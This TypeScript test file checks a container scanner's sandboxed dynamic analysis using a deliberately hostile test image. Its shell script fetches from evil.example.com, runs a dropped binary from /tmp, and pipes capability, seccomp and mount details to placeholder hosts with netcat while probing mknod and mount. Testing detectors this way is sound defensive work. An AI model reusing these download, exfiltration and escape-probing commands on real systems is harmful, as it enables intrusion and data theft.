// Dynamic analysis: an image that downloads, runs what it dropped and looks for a way out, and a benign server as its twin.
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { chmodSync, copyFileSync, existsSync, mkdirSync, readFileSync, readdirSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { Cleanup, needs, program, run, tempDir } from "./lib/proc.ts";

const cleanup = new Cleanup();
const skip = needs("bulkhead", "tar", "busybox", "runc");
let dir: string, env: NodeJS.ProcessEnv;

/** A docker-archive of one layer: busybox, a user, these scripts. */
async function image(name: string, config: object, files: Record<string, string>): Promise<string> {
  const root = join(dir, name, "root"), out = join(dir, name);
  for (const d of ["bin", "tmp", "etc", "usr/sbin"]) mkdirSync(join(root, d), { recursive: true });
  const busybox = (await run("sh", ["-c", "command -v busybox"])).stdout.trim();
  copyFileSync(busybox, join(root, "bin/busybox"));
  copyFileSync(busybox, join(root, "usr/sbin/httpd"));
  for (const n of ["sh", "wget", "cat", "sleep", "cp", "chmod", "nc", "id"]) symlinkSync("busybox", join(root, "bin", n));
  writeFileSync(join(root, "etc/passwd"), "root:x:0:0::/:/bin/sh\napp:x:1234:1235::/:/bin/sh\n");
  chmodSync(join(root, "tmp"), 0o1777);
  for (const [path, text] of Object.entries(files)) {
    writeFileSync(join(root, path), text);
    chmodSync(join(root, path), 0o755);
  }
  const made = await run("tar", ["-C", root, "--owner=0", "--group=0", "-cf", join(out, "0.tar"), "."]);
  assert.equal(made.code, 0, made.stderr);
  const id = "sha256:" + createHash("sha256").update(readFileSync(join(out, "0.tar"))).digest("hex");
  writeFileSync(join(out, "c.json"), JSON.stringify({ architecture: "amd64", os: "linux", config: { Env: ["PATH=/bin"], ...config }, rootfs: { type: "layers", diff_ids: [id] }, history: [] }));
  writeFileSync(join(out, "manifest.json"), JSON.stringify([{ Config: "c.json", RepoTags: [`shop/${name}:1`], Layers: ["0.tar"] }]));
  const packed = await run("tar", ["-C", out, "-cf", `${out}.tar`, "manifest.json", "c.json", "0.tar"]);
  assert.equal(packed.code, 0, packed.stderr);
  return `archive:${out}.tar`;
}
async function analyse(target: string, ...args: string[]) {
  const r = await run(program("bulkhead"), ["scan", target, "--format", "json", "--quiet", "--policy", join(dir, "policy.yaml"), ...args], { env, timeout: 90000 });
  assert.ok(r.code === 0 || r.code === 1, `${r.code}: ${r.stderr}`);
  const report = JSON.parse(r.stdout);
  return { code: r.code, report, did: report.findings.filter((f: any) => f.kind === "dynamic") as any[] };
}
const sandboxes = () => existsSync("/sys/fs/bpf") ? readdirSync("/sys/fs/bpf").filter((n) => n.startsWith("bulkhead-dynamic")) : [];

before(() => {
  if (skip) return;
  dir = tempDir(cleanup, "bh-dynamic-test-");
  env = { ...process.env, XDG_CACHE_HOME: join(dir, "cache"), HOME: dir, TMPDIR: "/var/tmp" };
  writeFileSync(join(dir, "policy.yaml"), `kind: ImagePolicy
name: quiet-images
rules:
  - deny: not image.looked_for intersects (dynamic)
  - deny: dynamic.type = exec and dynamic.id = drift
`);
});
after(() => cleanup.run());

test("downloads, runs what it dropped, finds no way out", { skip }, async () => {
  const reached: string[] = [];
  const server = createServer((c) => { reached.push(String(c.remoteAddress)); c.destroy(); });
  const port = await new Promise<number>((ok) => server.listen(0, "::", () => ok((server.address() as any).port)));
  server.unref(); // a server that listens would keep the tests from ending
  const here = Object.values(networkInterfaces()).flat().filter((i) => i && i.family === "IPv4").map((i) => i!.address);
  assert.ok(here.includes("127.0.0.1"));
  const bad = await image("bad", { Cmd: ["/run.sh"] }, {
    "run.sh": `#!/bin/sh
wget -q -O /tmp/page http://evil.example.com/x
cp /bin/busybox /tmp/sleep; chmod 755 /tmp/sleep; /tmp/sleep 0
${here.map((a) => `(echo host; sleep 1) | nc ${a} ${port}`).join("\n")}
(cat /proc/self/status | busybox grep -E '^(NoNewPrivs|Seccomp|CapEff)' | busybox tr '\\n\\t' '  '; sleep 1) | nc 203.0.113.5 4444
(busybox mount | busybox grep -c ' / type overlay'; sleep 1) | nc 203.0.113.6 4444
(echo $(busybox mknod /tmp/disk b 1 0 2>&1; busybox mount -t tmpfs x /tmp 2>&1; echo end); sleep 1) | nc 203.0.113.7 4444| nc 203.0.113.7 4444
`,
  });
  const { code, report, did } = await analyse(bad, "--dynamic=20");
  const find = (type: string, address?: string) => did.find((f) => f.type === type && (!address || f.address === address));
  assert.deepEqual(report.looked_for.includes("dynamic"), true);
  assert.equal(find("dns")?.address, "evil.example.com");
  assert.match(did.find((f) => f.type === "connect" && /:80$/.test(f.address))?.title, /evil\.example\.com/);
  assert.equal(find("exec")?.path, "/tmp/sleep");
  assert.ok(did.some((f) => f.type === "rule" && /scratch folder/.test(f.id)), JSON.stringify(did));
  assert.equal(code, 1);
  assert.equal(report.verdict.allow, false);
  assert.deepEqual(reached, []); // neither by loopback nor by any of the host's addresses
  const said = (a: string) => find("connect", a)?.match ?? "";
  assert.match(said("203.0.113.5:4444"), /CapEff: 00000000000004fb/); // chown dac_override fowner fsetid kill setgid setuid net_bind_service
  assert.match(said("203.0.113.5:4444"), /NoNewPrivs: 1/);
  assert.match(said("203.0.113.6:4444"), /^1/);
  assert.match(said("203.0.113.7:4444"), /mknod.*(not permitted).*mount.*(denied|not permitted).*end/);
  assert.deepEqual(sandboxes(), []);
});

test("a server that only serves: no finding, a profile that names its programs", { skip }, async () => {
  const good = await image("good", { Entrypoint: ["/start.sh"], Cmd: ["httpd"], User: "app", WorkingDir: "/usr/sbin" }, {
    "start.sh": "#!/bin/sh\n[ $(id -u):$(id -g) = 1234:1235 ] || exit 1\nexec ./$1 -f -p 8080\n",
  });
  const profile = join(dir, "profile.yaml");
  const { code, did } = await analyse(good, "--dynamic=3", "--profile-out", profile);
  assert.deepEqual(did, []);
  assert.equal(code, 0);
  const text = readFileSync(profile, "utf8");
  assert.match(text, /- "\/usr\/sbin\/httpd"/);
  assert.match(text, /- "\/bin\/busybox"/);
  const check = await run(program("bulkhead"), ["policy", "check", profile], { env });
  assert.equal(check.code, 0, check.stderr);
});

test("what cannot be run is told", { skip }, async () => {
  const none = await image("none", {}, {});
  const r = await run(program("bulkhead"), ["scan", none, "--dynamic=2"], { env, timeout: 60000 });
  assert.equal(r.code, 3);
  assert.match(r.stderr, /names no command/);
  const missing = await image("missing", { Cmd: ["/no/such/program"] }, {});
  const m = await run(program("bulkhead"), ["scan", missing, "--dynamic=2"], { env, timeout: 60000 });
  assert.equal(m.code, 3);
  assert.match(m.stderr, /did not start: .*no such file/i);
  const tree = await run(program("bulkhead"), ["scan", `dir:${join(dir, "none/root")}`, "--dynamic=2"], { env, timeout: 60000 });
  assert.equal(tree.code, 3);
  assert.deepEqual(sandboxes(), []);
});
